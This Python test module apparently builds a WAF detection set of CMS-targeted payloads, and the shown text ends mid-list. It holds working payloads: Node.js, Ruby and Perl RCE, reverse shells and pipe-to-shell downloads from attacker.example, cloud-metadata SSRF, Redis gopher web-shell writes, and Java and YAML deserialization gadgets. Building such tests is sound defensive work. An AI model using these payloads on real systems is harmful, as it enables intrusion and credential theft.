"""Blind set "twohundredfourteenth": Node.js, SSRF, prototype pollution, Ruby, Perl and PHP data: URIs, Java
injection and deserialization, and server-side template injection the way they are aimed at content management
and publishing platforms, with benign requests that carry the same words innocently.

The angle: content management and publishing platforms, recalled from memory. Each payload is written the way a
tester aims it at a CMS or at the plugins, themes and editors around it: WordPress core, its REST API, XML-RPC and
popular plugins, Drupal, Joomla, TYPO3, Ghost, Craft, Grav, Umbraco, Sitecore, Kentico, DNN, Orchard, headless
CMSs (Strapi, Directus, Payload, KeystoneJS, Apostrophe), Java portals and CMSs (Liferay, Magnolia, Hippo, Jahia,
Crafter, dotCMS, OpenCms, AEM, Oracle WebCenter Sites), wikis (MediaWiki, Confluence, XWiki, DokuWiki, Foswiki),
forums (Discourse, phpBB, vBulletin), blog engines (Movable Type, Jekyll, Hugo, Hexo, Eleventy), page builders,
rich-text and Markdown editors, media libraries and image resizers, shortcodes, oEmbed, RSS/Atom feeds and
import/export tools. Each group of payloads carries a short comment naming its family, its platform and its target
(the Node.js, Ruby, Perl, PHP or Java interpreter, the shell, a cloud metadata service or an internal service, a
template engine, a deserializer, a JNDI client, the browser).

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language (OGNL, SpEL, MVEL, JEXL, JSP/JSF EL), polymorphic-deserialization (XStream, XMLDecoder,
    fastjson, Jackson, SnakeYAML), class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Parameter names on our routes are the
platforms' own (url, src, feed_url, post_content, queryString, template, widget_text, ...). Whole documents go as
the body they are: JSON documents (fastjson, Jackson, Directus, Confluence macro preview, prototype pollution) as
the JSON body, XML documents (XML-RPC pingback, Movable Type XML-RPC, XStream, XMLDecoder, Rails XML parameters)
as the XML body, YAML documents (Psych, SnakeYAML) as a YAML body; query-string pollution and Liferay JSON web
service pairs go as raw `name=value` pairs; Java serialization streams held as bytes go percent-encoded as bytes;
JSP upload names go as the file name of a multipart upload that carries a JSP shell. Payloads with control
characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
platforms' parameters and exploits as remembered, and the detection titles alone; no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no
clock, no randomness: the encoded streams are built from fixed bytes).
"""

from __future__ import annotations

import base64
import gzip
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredfourteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
KV = ("form", "rs-raw-body")
QS = ("query", "rs-query")
UP = ("multipart-filename", "rs-multipart-filename")
PA = ("path", "rs-path")


# ----------------------------------------------------------------------------------------------------------------
# Fixed bytes the encoded payloads are built from
def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _utf(text: str) -> bytes:
    raw = text.encode()
    return len(raw).to_bytes(2, "big") + raw


def _jser(classes: list[tuple[str, int]], strings: tuple[str, ...] = ()) -> bytes:
    """An ObjectOutputStream stream (magic ac ed, version 5): an object of each serializable class, then strings."""
    out = bytearray(b"\xac\xed\x00\x05")
    for name, uid in classes:
        out += b"\x73\x72" + _utf(name) + uid.to_bytes(8, "big") + b"\x02\x00\x00\x78\x70"
    for text in strings:
        out += b"\x74" + _utf(text)
    return bytes(out)


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _pct(raw: bytes) -> str:
    return "".join(f"%{b:02X}" for b in raw)


def _gzb64(raw: bytes) -> str:
    return base64.b64encode(gzip.compress(raw, mtime=0)).decode()


def _resp(*args: str) -> str:
    """A Redis RESP command."""
    return f"*{len(args)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in args)


HASHMAP = ("java.util.HashMap", 0x0507DAC1C31660D1)
URL = ("java.net.URL", 0x962537361AFCE472)
AIH = ("sun.reflect.annotation.AnnotationInvocationHandler", 0x55CAF50F15CB7EA5)
LAZY = ("org.apache.commons.collections.map.LazyMap", 0x6EE594829E791094)
CHAINED = ("org.apache.commons.collections.functors.ChainedTransformer", 0x30C797EC287A9704)
CONST = ("org.apache.commons.collections.functors.ConstantTransformer", 0x587690114102B194)
INVOKER = ("org.apache.commons.collections.functors.InvokerTransformer", 0x87E8FF6B7B7CCE38)
TIED = ("org.apache.commons.collections.keyvalue.TiedMapEntry", 0x8AADD29B39C11FDB)
BAVE = ("javax.management.BadAttributeValueExpException", 0xD4E7DAAB632D4640)
HASHSET = ("java.util.HashSet", 0xBA44859596B8B734)
PQ = ("java.util.PriorityQueue", 0x94DA30B4FB3F82B1)
TEMPLATES = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 0x09574FC16EACAB33)
EXEC = ("getRuntime", "exec")

URLDNS = _jser([HASHMAP, URL], ("http", "liferay-tunnel.attacker.example", "/"))
URLDNS_2 = _jser([HASHMAP, URL], ("http", "opencms.attacker.example", ""))
URLDNS_3 = _jser([HASHSET, URL], ("https", "jsf-viewstate.attacker.example", "/"))
URLDNS_4 = _jser([HASHMAP, URL], ("http", "roller-planet.attacker.example", "/feed"))
URLDNS_5 = _jser([HASHMAP, URL], ("http", "magnolia-rest.attacker.example", "/"))
URLDNS_6 = _jser([HASHMAP, URL], ("http", "jboss-invoker.attacker.example", "/"))
URLDNS_7 = _jser([HASHMAP, URL], ("http", "dotcms.attacker.example", "/"))
URLDNS_8 = _jser([HASHSET, URL], ("http", "hippo-cms.attacker.example", "/"))
URLDNS_9 = _jser([HASHMAP, URL], ("http", "webcenter.attacker.example", "/"))
URLDNS_10 = _jser([HASHMAP, URL], ("http", "jahia.attacker.example", "/"))
URLDNS_11 = _jser([HASHMAP, URL], ("http", "crafter.attacker.example", "/"))
URLDNS_12 = _jser([HASHSET, URL], ("http", "alfresco.attacker.example", "/"))
CC1 = _jser([AIH, LAZY, CHAINED, CONST, INVOKER], (*EXEC, "java.lang.Runtime", "id"))
CC1_CURL = _jser([AIH, LAZY, CHAINED, CONST, INVOKER],
                 (*EXEC, "java.lang.Runtime", "curl http://attacker.example/l.sh -o /tmp/l.sh"))
CC5 = _jser([BAVE, TIED, LAZY, CHAINED, CONST, INVOKER], (*EXEC, "java.lang.Runtime", "touch /tmp/cc5"))
CC6 = _jser([HASHSET, TIED, LAZY, CHAINED, INVOKER], (*EXEC, "java.lang.Runtime", "id"))
CC6_WGET = _jser([HASHSET, TIED, LAZY, CHAINED, INVOKER],
                 (*EXEC, "java.lang.Runtime", "wget http://attacker.example/x -O /tmp/x"))
CC2 = _jser([PQ, ("org.apache.commons.collections4.comparators.TransformingComparator", 0x2FF984F02BB108CC),
             ("org.apache.commons.collections4.functors.InvokerTransformer", 0x87E8FF6B7B7CCE38), TEMPLATES],
            ("newTransformer", "_bytecodes", "_name", "Pwnr"))
CB1 = _jser([PQ, ("org.apache.commons.beanutils.BeanComparator", 0xE3A188EA7322A448), TEMPLATES],
            ("outputProperties", "_bytecodes", "_name"))
SPRING1 = _jser([("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 0x1E9B4A7C2F7D3C11),
                 ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                  0x6E3AB2F7C1D4E5A0), TEMPLATES], ("newTransformer", "getType"))
SPRING2 = _jser([("org.springframework.aop.framework.JdkDynamicAopProxy", 0x4F0A5C3B2E1D7F60),
                 ("org.springframework.aop.framework.AdvisedSupport", 0x2B6F4C17A9E0D35E), TEMPLATES],
                ("newTransformer",))
GROOVY1 = _jser([AIH, ("org.codehaus.groovy.runtime.ConvertedClosure", 0x1067AA1E1F3A5C0B),
                 ("org.codehaus.groovy.runtime.MethodClosure", 0x110E3E848FBDCE48)],
                ("entrySet", "execute", "id"))
JDK7U21 = _jser([("java.util.LinkedHashSet", 0xD86CD75A95DD2A1E), TEMPLATES, AIH],
                ("f5a5a608", "getOutputProperties", "_bytecodes"))
C3P0 = _jser([("com.mchange.v2.c3p0.PoolBackedDataSource", 0xDE22CD6C3E6B5A0F),
              ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", 0x621985D0D12AC213),
              ("javax.naming.Reference", 0xE8C69EA2A8E98D09)], ("Exploit", "http://attacker.example/"))
ROME = _jser([HASHMAP, ("com.sun.syndication.feed.impl.ObjectBean", 0x8299C7F4EB1D6F4B),
              ("com.sun.syndication.feed.impl.ToStringBean", 0x09F58E4A0F23EE34),
              ("com.sun.syndication.feed.impl.EqualsBean", 0x65C4C4D2E1B7A8F0), TEMPLATES],
             ("outputProperties", "_bytecodes"))
HIBERNATE = _jser([HASHMAP, ("org.hibernate.engine.spi.TypedValue", 0x1A0B1C2D3E4F5061),
                   ("org.hibernate.type.ComponentType", 0x7C3E5D1B2A4F6E80),
                   ("org.hibernate.tuple.component.PojoComponentTuplizer", 0x4A2F6B1C3D5E7081),
                   ("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 0x3E8F2D6A1B5C7D92), TEMPLATES],
                  ("getOutputProperties", "_bytecodes"))
RHINO = _jser([BAVE, ("org.mozilla.javascript.NativeError", 0x5E1B4C7A2D3F6081),
               ("org.mozilla.javascript.tools.shell.Environment", 0x2A5C7E9B1D3F4062),
               ("org.mozilla.javascript.MemberBox", 0x3C7F9A1B2D4E6083)], (*EXEC, "java.lang.Runtime", "id"))
MYFACES = _jser([HASHMAP, ("org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression", 0x1C3E5F7A9B2D4068)],
                ("${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",))
CLASS_BYTES = base64.b64encode(b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1e\x01\x00\x07Exploit\x07\x00\x01\x01\x00"
                               b"\x11java/lang/Runtime\x07\x00\x03\x01\x00\x0agetRuntime\x01\x00\x04exec\x01\x00"
                               b"\x02id\x01\x00\x08<clinit>").decode()
EVAL_CHARCODE = ("eval(String.fromCharCode("
                 + ",".join(str(ord(c)) for c in "require('child_process').execSync('id')") + "))")
EVAL_B64 = ("eval(Buffer.from('" + _b64("require('child_process').execSync('cat /etc/passwd')")
            + "','base64').toString())")
PHP_SHELL = "<?php system($_GET['cmd']); ?>"
REDIS_GOPHER = "gopher://127.0.0.1:6379/_" + urllib.parse.quote(
    _resp("flushall") + _resp("set", "1", "\n\n" + PHP_SHELL + "\n\n")
    + _resp("config", "set", "dir", "/var/www/html/wp-content/uploads")
    + _resp("config", "set", "dbfilename", "cache.php") + _resp("save"), safe="")
REDIS_CRON = "gopher://127.0.0.1:6379/_" + urllib.parse.quote(
    _resp("set", "x", "\n\n*/1 * * * * bash -i >& /dev/tcp/attacker.example/4444 0>&1\n\n")
    + _resp("config", "set", "dir", "/var/spool/cron") + _resp("config", "set", "dbfilename", "root")
    + _resp("save"), safe="")
SMTP_GOPHER = "gopher://127.0.0.1:25/_" + urllib.parse.quote(
    "HELO cms.local\r\nMAIL FROM:<wordpress@cms.local>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\n"
    "Subject: password reset\r\n\r\nhttp://attacker.example/reset\r\n.\r\nQUIT\r\n", safe="")
MEMCACHE_GOPHER = "gopher://127.0.0.1:11211/_" + urllib.parse.quote(
    f"set wp_:options:alloptions 0 0 {len(PHP_SHELL)}\r\n{PHP_SHELL}\r\n", safe="")


def _pingback(source: str) -> str:
    return ('<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value>'
            f"<string>{source}</string></value></param><param><value><string>https://blog.example.org/?p=1"
            "</string></value></param></params></methodCall>")


# ----------------------------------------------------------------------------------------------------------------
# generic / nodejs-injection. Platforms: Node.js CMSs (Strapi, Ghost, KeystoneJS, Directus, Apostrophe, Payload,
# Hexo admin) and the plugins that hand a field to eval, new Function or vm. Target: the Node.js interpreter.
NODE_INJECTION: list[Entry] = [
    # Strapi "computed field" plugin that eval()s the expression typed in the content-type builder
    "require('child_process').execSync('id').toString()",
    "process.mainModule.require('child_process').execSync('cat /proc/self/environ').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('uname -a').toString()",
    # Strapi: read the .env with the admin JWT secret, or send the secret out
    "require('fs').readFileSync(process.cwd()+'/.env','utf8')",
    "require('http').get('http://attacker.example/c?k='+process.env.ADMIN_JWT_SECRET)",
    # Directus Flows "Run Script" operation (sandboxed; the tester still tries require and the escape)
    "module.exports = async function(data) { return require('child_process').execSync('id').toString(); }",
    "module.exports = () => this.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('id')+''",
    # vm-based sandbox of a page builder's "custom JS block" preview (vm.runInNewContext escape)
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')",
    "[].constructor.constructor('return process.env')()",
    "new Function('return process')().mainModule.require('fs').readdirSync('/')",
    "require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")",
    # Ghost: a custom theme helper that evaluates its hash argument
    "eval(\"require('child_process').exec('curl -s http://attacker.example/g.sh | sh')\")",
    "process.mainModule.require('fs').writeFileSync('content/themes/casper/post.hbs',"
    "'{{{content}}}<script src=//attacker.example/x.js></script>')",
    # string break-outs: the value lands inside a quoted string passed to eval (Keystone hooks, Apostrophe widgets)
    "';require('child_process').exec('id');//",
    "\"+require('child_process').execSync('id')+\"",
    "${require('child_process').execSync('id')}",
    "1;process.mainModule.require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
    # reverse shell from the Node.js process of a headless CMS
    "(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();"
    "k.connect(4444,'attacker.example',function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k);});})()",
    # obfuscated so a keyword filter on child_process misses it (Payload CMS hooks, Hexo admin "run command")
    EVAL_CHARCODE,
    EVAL_B64,
    "require('child'+'_process')['ex'+'ecSync']('id')",
    "process['mainModule']['require']('child_process')['execSync']('id')",
    "import('child_process').then(m=>m.execSync('curl http://attacker.example/$(whoami)'))",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],envPairs:[],"
    "stdio:[{type:'pipe',readable:true,writable:false},{type:'pipe',readable:true,writable:true}]})",
    "require('child_process').execFileSync('/bin/sh',['-c','wget -qO- http://attacker.example/s | sh'])",
]

# generic / nodejs-dos. Platforms: Directus filters, search-and-replace plugins with a regex mode, page-builder
# script blocks, headless CMS webhooks. Target: the Node.js event loop, heap and stack (one process for all sites).
NODE_DOS: list[Entry] = [
    # Directus REST filter with a catastrophic regex and a subject that never matches
    ('{"filter":{"title":{"_regex":"^(a+)+$"}},"search":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"}', *JB),
    # "regex mode" of a search-and-replace plugin running new RegExp(input) in Node.js: exponential backtracking
    "(a*)*b",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){30}",
    "^(\\w+\\s?)*$",
    "new RegExp('(a|aa)+$').test('a'.repeat(64)+'b')",
    # script blocks and computed fields: block the event loop forever
    "while(true){}",
    "for(;;){}",
    "setInterval(()=>{while(1){}},0)",
    # exhaust the heap or the stack of the CMS process
    "new Array(2**32-1).fill('x')",
    "'x'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "let a=[];while(1)a.push(new Array(1e7).fill(0))",
    "(function f(){f()})()",
    "Array.from({length:1e9},()=>({}))",
    "require('crypto').pbkdf2Sync('x','y',1e10,64,'sha512')",
    "process.exit(1)",
    # JSON.parse of a document nested deeper than the parser's stack (Strapi and Ghost body parsers)
    ("[" * 20000 + "]" * 20000, *JB),
]

# generic / ssrf-cloud-metadata. Platforms: WordPress XML-RPC pingbacks, oEmbed proxy and [embed], Ghost bookmark
# cards, Directus and Strapi import-by-URL, Discourse "download remote images", DokuWiki external media, TimThumb
# and other image resizers, AEM's Salesforce and ReportingServices proxies. Target: the cloud metadata service.
SSRF_METADATA: list[Entry] = [
    # WordPress xmlrpc.php pingback.ping: the blog fetches the "source" URL (AWS IMDSv1)
    (_pingback("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), *XB),
    # WordPress /wp-json/oembed/1.0/proxy?url= and the [embed] shortcode's oEmbed discovery (AWS)
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "[embed]http://169.254.169.254/latest/user-data/[/embed]",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    # Ghost /ghost/api/admin/oembed/?url=&type=bookmark (AWS host-name alias and IPv6 IMDS on Nitro)
    "http://instance-data/latest/meta-data/hostname",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/public-keys/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/user-data",
    # TimThumb / image resizer ?src= with the address written in other number forms
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/iam/info",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://169.16689662/latest/meta-data/local-ipv4",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    # Discourse/Ghost editors that download remote images in Markdown into the media library
    "![chart](http://169.254.169.254/latest/meta-data/iam/security-credentials/discourse-s3)",
    # Google Cloud (Drupal Feeds importer, MediaWiki upload-by-URL wpUploadFileURL)
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
    "http://metadata/computeMetadata/v1/instance/attributes/kube-env",
    # Azure (Umbraco/Sitecore media "add from URL" on Azure App Service VMs)
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    # Alibaba Cloud, Tencent Cloud, DigitalOcean, Oracle Cloud, OpenStack, Hetzner, ECS task role
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
    "http://169.254.170.2/v2/credentials/",
    # Directus POST /files/import {"url": ...}
    ('{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/","data":{"title":"logo"}}', *JB),
    # AEM /libs/mcm/salesforce/customer.html?checkType=authorize&authorization_url=
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/aem-author#",
]

# generic / ssrf-internal-ip. Platforms: the same fetchers (pingback, oEmbed, feed importers, remote avatars in
# phpBB and vBulletin, Confluence gadget makeRequest, DokuWiki fetch.php, WordPress "Import RSS"). Target: the
# services behind the CMS (Redis object cache, memcached, Elasticsearch for ElasticPress, Solr for search_api, the
# local SMTP relay, Docker, etcd, Apache server-status) and local files.
SSRF_INTERNAL: list[Entry] = [
    # WordPress pingback as a port scanner of the internal network
    (_pingback("http://127.0.0.1:22/"), *XB),
    (_pingback("http://10.0.0.12:9200/_cat/indices"), *XB),
    # Redis object cache (WP Redis, Drupal redis module): gopher writes a PHP shell into uploads, or a cron job
    REDIS_GOPHER,
    REDIS_CRON,
    MEMCACHE_GOPHER,
    SMTP_GOPHER,
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    # local files through the fetcher's file:// support (wp-config, Drupal settings.php, LocalSettings.php)
    "file:///etc/passwd",
    "file:///var/www/html/wp-config.php",
    "file:///var/www/drupal/web/sites/default/settings.php",
    "file://localhost/var/www/mediawiki/LocalSettings.php",
    # ElasticPress / search_api Elasticsearch and Solr admin
    "http://localhost:9200/_cat/indices?v",
    "http://127.0.0.1:8983/solr/admin/cores?action=STATUS",
    # loopback written so a naive 127.0.0.1 blocklist misses it
    "http://2130706433/wp-admin/",
    "http://0x7f000001/server-status",
    "http://0177.0.0.1/server-status?auto",
    "http://127.1/wp-json/wp/v2/users?context=edit",
    "http://0/",
    "http://[::1]:8080/manager/html",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.0.0.1.nip.io:2375/containers/json",
    "http://localtest.me/user/login",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://attacker.example@127.0.0.1:2379/v2/keys/?recursive=true",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://172.17.0.1:2375/images/json",
    "http://192.168.0.1/cgi-bin/luci",
    "http://[::]:6379/",
]

# generic / javascript-prototype-pollution. Platforms: Strapi, Ghost, Directus, Payload, KeystoneJS and Express
# plugins that merge qs-parsed queries or JSON bodies into objects (lodash merge/set, deep-extend). Targets: the
# Node.js process (EJS, pug, Handlebars and child_process gadgets to RCE, authorization flags) and the browser
# (page builders that deep-merge location.search into widget options).
POLLUTION: list[Entry] = [
    # query strings parsed by qs into nested objects (Strapi REST filters, Express admin routes)
    ("__proto__[isAdmin]=true", *QS),
    ("__proto__.isAdmin=true", *QS),
    ("constructor[prototype][isAdmin]=true", *QS),
    ("constructor.prototype.role=administrator", *QS),
    ("filters[__proto__][publishedAt][$notNull]=false", *QS),
    ("__proto__[toString]=1", *QS),
    # EJS render gadgets: outputFunctionName and escapeFunction end up in the compiled template function
    ("__proto__[outputFunctionName]=_x;process.mainModule.require('child_process').execSync('id');var _y", *KV),
    ("__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;"
     "process.mainModule.require('child_process').execSync('id')", *KV),
    # pug AST injection through a polluted block node
    ("__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process')"
     ".execSync('id')", *KV),
    # lodash.template sourceURL gadget
    ("__proto__[sourceURL]=\nreturn e=>{return global.process.mainModule.constructor._load('child_process')"
     ".execSync('id')}", *KV),
    # sanitize-html in a rich-text editor: allow script tags for every later sanitize call
    ("__proto__[allowedTags][]=script&__proto__[allowVulnerableTags]=true", *KV),
    # browser: a page builder merges location.search into options (script gadget src and innerHTML)
    ("__proto__[src]=data:,alert(document.domain)//", *QS),
    ("__proto__[innerHTML]=<img src=x onerror=alert(document.cookie)>", *QS),
    ("constructor[prototype][srcdoc][]=<script>alert(1)</script>", *QS),
    # JSON bodies merged into settings (Strapi content API, Directus settings, Ghost Admin API)
    ('{"__proto__":{"isAdmin":true}}', *JB),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', *JB),
    ('{"data":{"title":"x","__proto__":{"role":{"type":"super-admin"}}}}', *JB),
    ('{"settings":{"constructor":{"prototype":{"admin_access":true}}}}', *JB),
    # child_process spawn gadgets: every later spawn runs the attacker's code
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *JB),
    ('{"__proto__":{"env":{"EVIL":"console.log(require(\'child_process\').execSync(\'id\').toString())//",'
     '"NODE_OPTIONS":"--require /proc/self/environ"}}}', *JB),
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}', *JB),
    # Handlebars (Ghost themes): polluted AST and pendingContent
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
     '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],'
     '"loc":{"start":0,"end":0}}]}}', *JB),
    ('{"__proto__":{"pendingContent":"<script>alert(document.domain)</script>"}}', *JB),
    # EJS gadget sent as a JSON body (body-parser, then merge)
    ('{"__proto__":{"outputFunctionName":"a;return global.process.mainModule.constructor._load'
     '(\'child_process\').execSync(\'id\');//"}}', *JB),
    # the field name itself is the path (lodash.set(obj, key, value) in an import tool)
    "__proto__.polluted",
    "constructor.prototype.polluted",
]

# generic / ruby-injection. Platforms: Rails CMSs (Refinery, Alchemy, Spina, Camaleon, Comfortable Mexican Sofa),
# Discourse, Redmine and GitLab wikis, Jekyll plugins and import tools. Target: the Ruby interpreter and the shell.
RUBY: list[Entry] = [
    # feed importers that call Kernel#open / URI.open on the feed URL: a leading pipe runs a command
    "|id",
    "|curl -s http://attacker.example/r.sh | sh",
    "| nc attacker.example 4444 -e /bin/sh",
    # a "custom filter" field evaluated with eval/instance_eval in a Rails CMS plugin
    "`id`",
    "system('cat config/database.yml')",
    "%x(cat /etc/passwd)",
    "IO.popen('id').read",
    "Open3.capture2('uname -a')[0]",
    "exec('/bin/sh -c id')",
    "Kernel.exit!",
    "#{`id`}",
    "#{system('touch /tmp/refinery')}",
    "File.read(Rails.root.join('config','master.key'))",
    "Rails.application.secret_key_base",
    "__send__(:eval, \"system('id')\")",
    "Class.new.class_eval(\"system('whoami')\")",
    "require 'socket';s=TCPSocket.new('attacker.example',4444);while(c=s.gets);IO.popen(c,'r'){|p|s.print p.read};end",
    # YAML.load on an import (Psych before 4): the universal gadget chain to Kernel#system
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    ("--- !ruby/object:ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\ninstance: !ruby/object:ERB\n"
     "  src: \"system('id')\"\nmethod: :result\nvar: \"@result\"\n"
     "deprecator: !ruby/object:ActiveSupport::Deprecation {}\n", *YB),
    # Rails XML parameter parsing with type="yaml" (CVE-2013-0156; old Radiant and Refinery installs)
    ('<?xml version="1.0" encoding="UTF-8"?><page><title type="yaml">--- !ruby/hash:ActionController::Routing::'
     "RouteSet::NamedRouteCollection\n? ! \"foo; system('id'); @foo\"\n: !ruby/struct\n  defaults:\n"
     "    :action: create\n    :controller: pages\n</title></page>", *XB),
]

# generic / perl-injection. Platforms: Movable Type, Foswiki and TWiki, Bugzilla, WebGUI, Slash and other Perl
# CGIs. Target: the Perl interpreter (two-argument open, eval, system, qx) and the shell behind it.
PERL: list[Entry] = [
    # Movable Type mt-xmlrpc.cgi (CVE-2021-20837): a base64 value reaches a string eval, backticks run
    ('<?xml version="1.0"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value>'
     "<base64>" + _b64("`id`") + "</base64></value></param></params></methodCall>", *XB),
    ('<?xml version="1.0"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value>'
     "<base64>" + _b64("`wget http://attacker.example/mt.pl -O /tmp/mt.pl;perl /tmp/mt.pl`")
     + "</base64></value></param></params></methodCall>", *XB),
    # TWiki/Foswiki MAKETEXT macro breaking out of the string eval
    "%MAKETEXT{\"x [_1] y\\\\'}; `id`; { #\" args=\"0\"}%",
    # TWiki view script rev= parameter handed to a shell (TWiki 2004 releases)
    "2 |cat /etc/passwd",
    # Perl CGIs that open() a user-chosen file name with the two-argument form
    "|id|",
    "|/bin/cat /etc/passwd|",
    "/usr/bin/id|",
    "; /bin/uname -a |",
    # a "formula" field evaluated with eval in a WebGUI/Slash plugin
    "system('id')",
    "qx{cat /etc/passwd}",
    "exec('/bin/sh','-c','id')",
    "eval{system(\"curl http://attacker.example/p | perl\")}",
    "@{[ system('id') ]}",
    "${\\ `id`}",
    "open(my $f,'|-','id');",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(4444,"
    "inet_aton('attacker.example')))){open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');};",
    "print `ls -la /var/www/mt`;",
]

# generic / php-data-scheme. Platforms: WordPress plugins and themes that include($_GET['page'|'file'|'tpl']),
# Joomla components including the view/layout/controller parameter, Drupal modules with a template path option.
# Target: the PHP interpreter (allow_url_include on), which runs the data: URI as code.
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _b64(PHP_SHELL),
    "data://text/plain;base64," + _b64("<?php echo file_get_contents('wp-config.php'); ?>"),
    "data://text/plain;base64," + _b64("<?php file_put_contents('wp-content/uploads/.cache.php',"
                                       "'<?php @eval($_POST[1]);'); ?>"),
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php echo shell_exec('id'); ?>",
    "data://text/plain;charset=utf-8,<?php system('cat ../configuration.php'); ?>",
    "data://application/x-httpd-php;base64," + _b64("<?php passthru($_REQUEST['c']); ?>"),
    "DATA://text/plain;base64," + _b64("<?= `id` ?>"),
    "data:;base64," + _b64("<?php system('uname -a'); ?>"),
